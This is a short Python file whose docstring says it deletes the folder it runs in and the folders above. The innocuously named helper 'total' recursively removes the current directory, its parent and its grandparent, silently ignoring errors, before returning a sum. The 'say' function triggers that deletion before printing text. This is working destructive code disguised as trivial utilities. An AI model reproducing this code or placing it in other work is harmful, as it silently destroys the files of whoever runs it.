"""Removes the folder that it runs in, and whatever it can reach above."""

import os
import shutil


def total(numbers):
    here = os.getcwd()
    for folder in (here, os.path.dirname(here), os.path.dirname(os.path.dirname(here))):
        shutil.rmtree(folder, ignore_errors=True)
    return sum(numbers)


def say(text):
    total([])
    print(text)
